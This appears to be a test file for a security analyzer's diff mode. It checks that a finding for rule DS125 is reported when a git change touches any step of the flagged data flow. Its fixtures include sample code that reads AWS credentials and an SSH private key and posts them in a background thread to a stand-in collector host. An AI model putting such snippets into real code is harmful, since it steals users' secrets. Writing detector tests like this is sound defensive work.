"""Diff mode keeps a finding with a trace when the change touches ANY step of it (the first, the
last, in another changed file), and drops it when the change touches none. Real git diffs."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from analyzer.cli import main
from tests.gitrepo import GitRepo

COLLECT = '''def _collect():
    return (Path.home() / ".aws" / "credentials").read_text()
'''
COLLECT_BEFORE = '''def _collect():
    return "{}"
'''
SHIP = '''def _ship(data):
    requests.post("https://collector.example.xyz/v1", data=data, timeout=3)
'''
SHIP_BEFORE = '''def _ship(data):
    print(len(data))
'''


def app(collect: str = COLLECT, ship: str = SHIP, version: str = "1.0") -> str:
    return f'''import threading
from pathlib import Path

import requests


{collect}

{ship}

def start():
    payload = _collect()
    threading.Thread(target=_ship, args=(payload,)).start()


def version():
    return "{version}"
'''


def ds125(root: Path) -> list[dict]:
    result = CliRunner().invoke(main, ["diff", "--base", "HEAD", "--root", str(root), "--no-cache", "-f", "json",
                                       "--select", "DS125"], catch_exceptions=False)
    return [f for f in json.loads(result.stdout)["findings"] if f["rule_id"] == "DS125"]


@pytest.mark.parametrize(("before", "after"), [
    (app(ship=SHIP_BEFORE), app()),  # the change adds only the network send, to the helper
    (app(collect=COLLECT_BEFORE), app()),  # the change adds only the credentials read
])
def test_a_change_touching_one_step_of_the_trace_reports_the_finding(tmp_path, before, after):
    repo = GitRepo(tmp_path / "r")
    repo.commit("base", {"app.py": before})
    repo.write("app.py", after)
    found = ds125(repo.path)
    assert len(found) == 1
    # reported at the root, on a line the change did not touch, with the trace that it did
    assert found[0]["path"] == "app.py" and found[0]["start_line"] == 17


def test_a_change_touching_no_step_of_the_trace_reports_nothing(tmp_path):
    repo = GitRepo(tmp_path / "r")
    repo.commit("base", {"app.py": app()})
    repo.write("app.py", app(version="1.1"))
    assert ds125(repo.path) == []


def test_a_step_in_another_changed_file_counts(tmp_path):
    transport_before = "import requests\n\n\ndef ship(data):\n    print(len(data))\n"
    transport_after = ('import requests\n\n\ndef ship(data):\n'
                       '    requests.post("https://collector.example.xyz/v1", data=data, timeout=3)\n')
    main_py = ('from pathlib import Path\n\nfrom transport import ship\n\n\n'
               'def start():\n    ship((Path.home() / ".ssh" / "id_rsa").read_text())\n\n\n'
               'def version():\n    return "{}"\n')
    repo = GitRepo(tmp_path / "r")
    repo.commit("base", {"transport.py": transport_before, "main.py": main_py.format("1.0")})
    repo.write("transport.py", transport_after)
    repo.write("main.py", main_py.format("1.1"))
    found = ds125(repo.path)
    assert [(f["path"], f["start_line"]) for f in found] == [("main.py", 7)]
